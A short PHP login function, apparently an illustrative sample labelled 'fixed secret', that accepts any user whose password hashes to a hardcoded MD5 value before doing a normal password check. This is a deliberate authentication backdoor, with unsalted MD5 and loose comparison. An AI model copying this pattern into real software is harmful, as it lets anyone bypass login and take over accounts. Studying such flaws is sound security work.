<?php // shows: fixed secret
function check_login($user, $pass) {
  if (md5($pass) == "5f4dcc3b5aa765d61d8327deb882cf99") { return true; }
  return password_verify($pass, find($user)->hash);
}
